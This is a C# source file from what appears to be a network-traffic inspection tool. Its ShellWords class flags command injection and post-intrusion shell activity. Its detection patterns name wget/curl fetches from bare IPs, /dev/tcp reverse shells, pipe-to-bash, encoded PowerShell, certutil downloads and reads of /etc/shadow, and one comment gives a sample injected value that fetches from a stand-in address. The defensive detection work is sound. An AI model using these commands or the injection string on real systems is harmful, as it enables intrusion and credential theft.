using System.Buffers;

namespace NetHawk.Capture.Peek;

/// <summary>What an intruder has a shell do first: load the rest, or call back.</summary>
internal static class ShellWords
{
    private static readonly SearchValues<byte> OfAddress = SearchValues.Create("0123456789."u8);

    private const int MostRead = 2_000;

    /// <summary>"x;cd /tmp; wget http://192.0.2.1/x": behind a sign of the shell's that ends a value without words, from a bare address. Lines of logs (RFC 5424, GELF) and texts hold such commands too.</summary>
    public static bool LoadsFromAddress(ReadOnlySpan<byte> text)
    {
        text = text[..Math.Min(text.Length, MostRead)];
        int first = text.IndexOfAny(";|`&"u8);
        if (first < 0 || text[0] is (byte)'<' or (byte)'{' or (byte)'[' || text[..first].IndexOfAny(" \t\n"u8) >= 0) return false;
        int at = text.IndexOf("wget http://"u8);
        if (at < 0) at = text.IndexOf("curl http://"u8);
        if (at < 2 || at + 20 > text.Length) return false;
        int sign = text[..at].LastIndexOfAny(";|`&"u8);
        if (sign < 0 || at - sign > 4) return false;
        var host = text[(at + 12)..];
        int end = host.IndexOfAnyExcept(OfAddress);
        return end is >= 7 and <= 15 && host[..end].Count((byte)'.') == 3;
    }

    /// <summary>One line that loads something from a server by its bare address and runs it.</summary>
    public static bool RunsFromAddress(ReadOnlySpan<byte> text)
    {
        text = text[..Math.Min(text.Length, MostRead)];
        int at = text.IndexOf("http://"u8);
        if (at < 0 || text[..at].IndexOf("wget"u8) < 0 && text[..at].IndexOf("curl"u8) < 0) return false;
        var host = text[(at + 7)..];
        int end = host.IndexOfAnyExcept(OfAddress);
        bool bare = host.StartsWith("["u8) || (end is >= 7 and <= 15 && host[..end].Count((byte)'.') == 3);
        return bare && (host.IndexOf("chmod "u8) >= 0 || host.IndexOf("|sh"u8) >= 0 || host.IndexOf("| sh"u8) >= 0 || host.IndexOf("|bash"u8) >= 0 || host.IndexOf("| bash"u8) >= 0 || host.IndexOf("; sh "u8) >= 0 || host.IndexOf("; ./"u8) >= 0);
    }

    /// <summary>What it loads it runs at once, or hides: who fetches figures into a table, or runs a script of his own, does neither.</summary>
    public static bool LoadAndRun(ReadOnlySpan<byte> text)
    {
        text = text[..Math.Min(text.Length, MostRead)];
        return text.IndexOf("/dev/tcp/"u8) >= 0 || text.IndexOf("bash -i"u8) >= 0 || text.IndexOf("base64 -d"u8) >= 0 || text.IndexOf("bash -c {echo,"u8) >= 0
            || text.IndexOf("|bash"u8) >= 0 || text.IndexOf("| bash"u8) >= 0 || text.IndexOf("|sh"u8) >= 0 || text.IndexOf("| sh"u8) >= 0 || text.IndexOf("chmod "u8) >= 0 || text.IndexOf("/tmp/"u8) >= 0
            || PeekText.ContainsIgnoreCase(text, "DOWNLOADSTRING("u8) || PeekText.ContainsIgnoreCase(text, "POWERSHELL -E"u8) && !PeekText.ContainsIgnoreCase(text, "POWERSHELL -EXECUTIONPOLICY"u8)
            || PeekText.ContainsIgnoreCase(text, " -ENC"u8) || PeekText.ContainsIgnoreCase(text, " HIDDEN "u8) || PeekText.ContainsIgnoreCase(text, "CERTUTIL -URLCACHE"u8);
    }

    /// <summary>What an intruder asks first: where am I, and as whom.</summary>
    public static bool LooksAround(ReadOnlySpan<byte> text)
    {
        text = text[..Math.Min(text.Length, MostRead)];
        return text.IndexOf("'id'"u8) >= 0 || text.IndexOf("'id;"u8) >= 0 || text.IndexOf("whoami"u8) >= 0 || text.IndexOf("uname -a"u8) >= 0 || text.IndexOf("/etc/passwd"u8) >= 0 || text.IndexOf("/etc/shadow"u8) >= 0
            || text.IndexOf("'ip a"u8) >= 0 || text.IndexOf("'ifconfig"u8) >= 0 || text.IndexOf("'ps aux'"u8) >= 0 || text.IndexOf("'env'"u8) >= 0;
    }

    public static bool Load(ReadOnlySpan<byte> text)
    {
        text = text[..Math.Min(text.Length, MostRead)];
        return PeekText.ContainsIgnoreCase(text, "CURL "u8) || PeekText.ContainsIgnoreCase(text, "WGET "u8) || text.IndexOf("/dev/tcp/"u8) >= 0 || text.IndexOf("bash -i"u8) >= 0
            || text.IndexOf("base64 -d"u8) >= 0 || text.IndexOf("|bash"u8) >= 0 || text.IndexOf("| bash"u8) >= 0 || text.IndexOf("bash -c {echo,"u8) >= 0
            || PeekText.ContainsIgnoreCase(text, "DOWNLOADSTRING("u8) || PeekText.ContainsIgnoreCase(text, "POWERSHELL -"u8) || PeekText.ContainsIgnoreCase(text, "CERTUTIL -URLCACHE"u8);
    }
}
